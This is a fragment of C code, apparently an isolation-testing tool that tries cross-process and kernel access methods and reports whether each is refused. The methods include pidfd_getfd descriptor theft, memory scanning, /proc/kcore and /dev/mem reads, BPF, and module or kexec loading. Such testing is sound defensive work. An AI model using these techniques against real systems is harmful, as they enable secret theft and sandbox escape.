        if (pidfd < 0) return refused("pidfd_open", errno);
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)addr, 0);
        return fd < 0 ? refused("pidfd_getfd", errno) : worked("pidfd_getfd");
    }
    if (!strcmp(mode, "sigqueue")) {
        union sigval v = {.sival_int = 42};
        return sigqueue(pid, SIGUSR2, v) ? refused("sigqueue", errno) : worked("sigqueue");
    }
    if (!strcmp(mode, "sigio")) return via_sigio(pid);
    if (!strcmp(mode, "oldfd") && argc - a > 3) return via_oldfd(x, addr, argv[a + 3][0] == 'w');
    if (!strcmp(mode, "perf")) return via_perf(x);
    if (!strcmp(mode, "uprobepmu")) return via_uprobe_pmu(x, addr);
    if (!strcmp(mode, "kcore")) return via_kcore(x, argc - a > 2 && !strcmp(argv[a + 2], "ram"));
    if (!strcmp(mode, "grepfile") && argc - a > 2) return via_grepfile(x, argv[a + 2]);
    if (!strcmp(mode, "scanmem") && argc - a > 3) return via_scanmem(pid, argv[a + 2], argv[a + 3]);
    if (!strcmp(mode, "keyfile")) return make_keyfile(x);
    if (!strcmp(mode, "heapkey")) return hold_in_heap(x);
    if (!strcmp(mode, "holdconns") && argc - a > 2) return hold_connections(x, atoi(argv[a + 2]));
    if (!strcmp(mode, "bpf") && argc - a > 3)
        return via_bpf(x, (pid_t)atoi(argv[a + 2]), strtoul(argv[a + 3], NULL, 0), argc - a > 4 ? argv[a + 4] : "");
    if (!strcmp(mode, "untag") && argc - a > 3) return via_untag(x, argv[a + 2], (pid_t)atoi(argv[a + 3]));
    if (!strcmp(mode, "code") && argc - a > 2) return via_code(x, argv[a + 2]);
    if (!strcmp(mode, "supervise") && argc - a > 2) return via_supervisor(x, argv + a + 2);
    if (!strcmp(mode, "kmod") || !strcmp(mode, "kexec")) {
        int fd = open(x, O_RDONLY);
        if (fd < 0) return 2;
        long r = !strcmp(mode, "kmod") ? syscall(SYS_finit_module, fd, "", 0)
                                       : syscall(SYS_kexec_file_load, fd, fd, 1UL, "", 0UL);
        /* a bogus file: EPERM/EACCES means refused before it was read */
        return r == 0 ? worked(mode) : refused(mode, errno);
    }
    if (!strcmp(mode, "devmem")) {
        int fd = open(x, O_RDONLY);
        return fd < 0 ? refused(x, errno) : worked("opened");
    }
    fprintf(stderr, "attack: unknown mode %s\n", mode);
    return 64;
}
